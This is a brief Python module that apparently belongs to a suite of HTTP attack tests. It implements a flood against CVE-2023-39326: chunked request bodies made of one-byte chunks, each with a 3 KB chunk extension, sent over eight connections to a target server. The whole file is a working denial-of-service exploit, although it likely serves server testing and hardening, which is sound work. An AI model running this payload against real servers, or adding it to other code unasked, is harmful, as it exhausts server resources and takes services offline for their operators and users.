"""A body in chunks of one byte, each with a chunk extension of 3 KB (CVE-2023-39326)."""

from itertools import repeat

from attack import Attack

ATTACK = Attack()


async def run(target):
    begun = b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    batch = (b"1;" + b"e" * 3000 + b"\r\nx\r\n") * 5
    return await target.flood(8, begun, lambda: repeat(batch), alpn="http/1.1")
